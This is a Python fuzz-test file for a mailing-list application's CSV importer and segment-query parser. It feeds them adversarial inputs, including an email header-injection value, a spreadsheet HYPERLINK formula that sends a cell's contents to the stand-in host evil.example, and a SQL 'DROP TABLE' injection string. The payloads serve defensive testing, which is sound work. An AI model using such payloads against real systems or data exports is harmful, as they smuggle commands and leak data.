"""Fuzz tests (hypothesis) for the audience's parsers: the CSV importer and the segment parser.

Whatever the input, the only exceptions are the subscribers package's own (a file-level
ImportFileError, a SegmentSyntaxError pointing at a column), and what an import stores obeys the
same rules as a well-formed file: one-line names and attributes within their limits, no
internationalised mailbox, a balanced report. CI runs a few thousand examples per test (CI=true);
a local run a few hundred.
"""

from __future__ import annotations

import io
import os
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.dialects import postgresql, sqlite
from sqlalchemy.orm import Session

from subscribers.db import make_engine, session_factory
from subscribers.errors import SegmentSyntaxError, SubscribersError
from subscribers.importing import ATTR_MAX, import_csv_file
from subscribers.lifecycle import NAME_MAX
from subscribers.lists import create_list
from subscribers.models import MailingList, Subscriber
from subscribers.segments import count, matching_subscriber_ids, parse

EXAMPLES = 2000 if os.environ.get("CI") else 200
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)
SECRET = "fuzz-secret-" + "x" * 32


@pytest.fixture
def fuzz_session(sqlite_url: str) -> Iterator[tuple[Session, MailingList]]:
    engine = make_engine(sqlite_url)
    with session_factory(engine)() as session:
        mlist = create_list(session, "fuzz", "Fuzz")
        session.commit()
        yield session, mlist
    engine.dispose()


# --- CSV ---------------------------------------------------------------------------------------

HOSTILE_CELLS = [
    "ana@example.com",
    "Ana@Example.COM",
    "ana+tag@example.com",
    "jürgen.müller@example.de",
    "ana@bücher.de",
    "not-an-address",
    "evil@x.com\r\nBcc: victim@y.com",
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "'=1+1",
    "+52 55",
    "-1",
    "@SUM(A1)",
    "\x1b[2J",
    "a\x00b",
    '"',
    '""',
    '"quoted, cell"',
    "es",
    "xx",
    "client;press",
    "a;;b",
    "active",
    "unsubscribed",
    "bogus-status",
    "",
    " ",
    "x" * 250,
]
HEADERS = [
    ["email", "name", "company", "language", "tags"],
    ["email", "name", "attr.sector", "status"],
    ["Email", "tags", "attr.note", ""],
    ["name", "company"],
    ["email", "email"],
    ["email", "attr."],
]
cells = st.one_of(
    st.sampled_from(HOSTILE_CELLS),
    st.text(max_size=30),
    st.text(alphabet=",;\t|\"'\r\n=@+-ab", max_size=10),
)


@st.composite
def csv_files(draw: st.DrawFn) -> bytes:
    """Mostly file-shaped input (a header and rows, with any separator and line end), sometimes
    arbitrary bytes."""
    if draw(st.integers(0, 9)) == 0:
        return draw(st.binary(max_size=400))
    separator = draw(st.sampled_from([",", ";", "\t", "|"]))
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    header = draw(
        st.one_of(
            st.sampled_from(HEADERS[:3]), st.sampled_from(HEADERS), st.lists(cells, max_size=5)
        )
    )
    first = st.one_of(st.sampled_from(HOSTILE_CELLS[:6]), st.emails(), cells)
    rows = draw(st.lists(st.tuples(first, st.lists(cells, max_size=6)), max_size=12))
    rows = [[email, *rest] for email, rest in rows]
    text = end.join(separator.join(row) for row in [header, *rows])
    if draw(st.booleans()):
        text += end
    data = text.encode("utf-8")
    if draw(st.integers(0, 5)) == 0:
        data = b"\xef\xbb\xbf" + data
    if draw(st.integers(0, 7)) == 0:
        data += draw(st.binary(min_size=1, max_size=8))
    return data


def test_the_csv_importer_raises_only_its_own_errors_and_stores_only_clean_rows(
    fuzz_session: tuple[Session, MailingList],
) -> None:
    session, mlist = fuzz_session

    @FUZZ
    @given(csv_files())
    def check(data: bytes) -> None:
        try:
            try:
                report = import_csv_file(session, mlist, io.BytesIO(data), "fuzz.csv", SECRET)
            except SubscribersError:
                return
            assert report.balanced
            for email, name, company, attributes in session.execute(
                select(Subscriber.email, Subscriber.name, Subscriber.company, Subscriber.attributes)
            ):
                assert email is not None and email.rpartition("@")[0].isascii()
                assert len(name) <= NAME_MAX and len(company) <= NAME_MAX
                for text in (name, company, *(attributes or {}).values()):
                    assert not any(ord(c) < 32 or ord(c) == 127 for c in text), text
                    assert len(text) <= max(ATTR_MAX, NAME_MAX)
        finally:
            session.rollback()

    check()


# --- segments ----------------------------------------------------------------------------------

WORDS = [
    "tag:",
    "lang:",
    "company:",
    "domain:",
    "name:",
    "email:",
    "attr.sector:",
    "attr.",
    "and",
    "or",
    "not",
    "(",
    ")",
    '"',
    '\\"',
    " ",
    "\t",
    "\n",
    "client",
    "año",
    "gob.mx",
    "%",
    "_",
    "'; DROP TABLE subscriber; --",
    "\x00",
    "\u202e",
    "*",
]
expressions = st.one_of(
    st.lists(st.sampled_from(WORDS), max_size=25).map("".join),
    st.text(max_size=60),
    st.integers(1, 60).map(lambda n: "not " * n + "tag:x"),
    st.integers(1, 40).map(lambda n: "(" * n + "tag:x" + ")" * n),
)


@FUZZ
@given(expressions)
def test_the_segment_parser_raises_only_segment_syntax_errors(text: str) -> None:
    try:
        parse(text)
    except SegmentSyntaxError as exc:
        assert exc.column >= 1 and "^" in str(exc)
        return
    stmt = matching_subscriber_ids(None, 1, text)
    for dialect in (sqlite.dialect(), postgresql.dialect()):
        str(stmt.compile(dialect=dialect))


def test_a_parsed_expression_runs_on_the_database(
    fuzz_session: tuple[Session, MailingList],
) -> None:
    session, mlist = fuzz_session

    @settings(FUZZ, max_examples=max(EXAMPLES // 4, 100))
    @given(expressions)
    def check(text: str) -> None:
        try:
            assert count(session, mlist.id, text) == 0
        except SubscribersError:  # a syntax error, or a word naming no saved segment
            pass
        finally:
            session.rollback()

    check()
